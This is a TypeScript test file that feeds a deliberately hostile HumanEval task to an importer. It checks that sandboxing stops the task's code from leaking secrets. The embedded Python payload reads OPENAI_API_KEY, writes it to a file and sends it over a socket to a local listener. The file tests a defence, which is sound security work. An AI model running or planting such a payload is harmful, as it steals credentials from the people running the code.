// A hostile HumanEval file: its code runs only in the sandbox, so it can't write files of ours,
// read our environment or reach a listener on 127.0.0.1.
import { randomBytes } from "node:crypto";
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { importHumanEval } from "../../src/spec/importers/humaneval.ts";

let server: Server;
let port = 0;
let connections = 0;
const dir = mkdtempSync(join(tmpdir(), "sstar-importer-victim-"));
const KEY = `sk-${randomBytes(12).toString("hex")}`;

beforeAll(async () => {
  process.env.OPENAI_API_KEY = KEY;
  server = createServer((s) => {
    connections++;
    s.end();
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
  port = (server.address() as { port: number }).port;
});
afterAll(() => {
  delete process.env.OPENAI_API_KEY;
  server.close();
  rmSync(dir, { recursive: true, force: true });
});

describe("sstar import humaneval on a hostile dataset", () => {
  it("leaves no file and makes no connection; the task still imports", async () => {
    const leak = join(dir, "key.txt");
    const payload = `import os, socket\ntry:\n    open(${JSON.stringify(leak)}, "w").write(os.environ.get("OPENAI_API_KEY", "none"))\nexcept OSError:\n    pass\ntry:\n    socket.create_connection(("127.0.0.1", ${port}), timeout=1).sendall(os.environ.get("OPENAI_API_KEY", "none").encode())\nexcept OSError:\n    pass\n`;
    const task = {
      task_id: "HumanEval/999",
      prompt: `${payload}\ndef add(a, b):\n    """Add.\n    >>> add(1, 2)\n    3\n    """\n`,
      entry_point: "add",
      canonical_solution: "    return a + b\n",
      test: `${payload}\ndef check(candidate):\n    assert candidate(1, 2) == 3\n`,
    };
    const r = await importHumanEval(JSON.stringify(task));
    expect(r.skipped).toEqual([]);
    expect(r.specs).toHaveLength(1);
    expect(existsSync(leak)).toBe(false);
    expect(connections).toBe(0);
  });
});
